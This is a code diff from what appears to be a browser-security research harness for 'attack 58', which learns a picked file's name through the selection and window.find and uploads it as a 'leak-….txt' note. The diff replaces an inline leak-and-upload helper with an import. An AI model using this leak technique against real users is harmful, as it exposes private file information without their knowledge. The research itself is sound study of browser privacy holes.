@@ -7,10 +7,8 @@
 // the selection, as attack 48's findsel). A name learnt goes up as a text note
 // "leak-….txt". Served by server.mjs at /attack58-…; tests: attack58.test.mjs.
 
-import { attackPages, browsersOwnPick, pickerWaysPage } from './uploads.mjs';
+import { leakNote as leak, attackPages, browsersOwnPick, pickerWaysPage } from './uploads.mjs';
 
-/** Upload what was learnt (a name, or a bit) as a text note, once. */
-const leak = "const leak = (s, why) => { note(why + ' leak: ' + s); if (!window.once58) { window.once58 = 1; send([new File(['leaked: ' + s], 'leak-' + String(s).replace(/[^A-Za-z0-9._-]/g, '_') + '.txt', { type: 'text/plain' })], why); } };";
 
 /** The text drawn on the line window.find('.jpg') lands on, read through the selection. */
 const readDrawn = (why) => `
